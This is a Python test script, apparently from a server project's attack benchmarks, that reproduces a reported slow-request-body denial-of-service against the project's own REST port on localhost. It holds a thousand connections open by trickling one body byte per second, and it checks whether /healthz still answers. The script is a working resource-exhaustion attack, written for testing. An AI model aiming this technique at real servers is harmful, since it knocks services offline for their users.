#!/usr/bin/env python3
"""Slow request bodies against Islet's REST port (issue 13, finding 4).

Opens N connections; each sends a request head announcing a 100,000-byte body, then one body
byte a second. Every few seconds it asks GET /healthz on a fresh connection, and prints how
many slow connections the server still holds and what /healthz answered.

    ulimit -n 4096   # this client needs a descriptor per connection
    python3 Benchmarks/attacks/slow_bodies.py --port 8080 --key "$(cat .islet/admin.key)"
"""
import argparse
import socket
import time


def healthz(port):
    started = time.monotonic()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as probe:
            probe.sendall(b"GET /healthz HTTP/1.1\r\nHost: islet\r\nConnection: close\r\n\r\n")
            answer = probe.recv(200).decode(errors="replace")
            status = answer.split(" ")[1] if answer.startswith("HTTP/1.1") else "closed"
    except socket.timeout:
        status = "timeout"
    except OSError as error:
        status = type(error).__name__
    return status, time.monotonic() - started


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, default=8080)
    parser.add_argument("--key", default="")
    parser.add_argument("--connections", type=int, default=1100)
    parser.add_argument("--seconds", type=int, default=60)
    arguments = parser.parse_args()
    head = (
        "POST /v1/apps HTTP/1.1\r\nHost: islet\r\nAuthorization: Bearer %s\r\n"
        "Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n" % arguments.key
    ).encode()
    sockets = []
    for _ in range(arguments.connections):
        try:
            connection = socket.create_connection(("127.0.0.1", arguments.port), timeout=2)
            connection.setblocking(False)
            connection.send(head)
            sockets.append(connection)
        except OSError:
            pass
    print(f"opened {len(sockets)} of {arguments.connections} connections", flush=True)
    started = time.monotonic()
    while time.monotonic() - started < arguments.seconds:
        open_ = []
        for connection in sockets:
            try:
                if connection.recv(4096) == b"":
                    raise ConnectionResetError
            except BlockingIOError:
                pass
            except OSError:
                connection.close()
                continue
            try:
                connection.send(b"{")
                open_.append(connection)
            except BlockingIOError:
                open_.append(connection)
            except OSError:
                connection.close()
        sockets = open_
        elapsed = time.monotonic() - started
        if int(elapsed) % 5 == 0:
            status, took = healthz(arguments.port)
            print(f"t={elapsed:5.1f}s held={len(sockets):5d} healthz={status} in {took:.2f}s", flush=True)
        time.sleep(1)
    print(f"after {arguments.seconds}s: the server still holds {len(sockets)} slow connections")


if __name__ == "__main__":
    main()
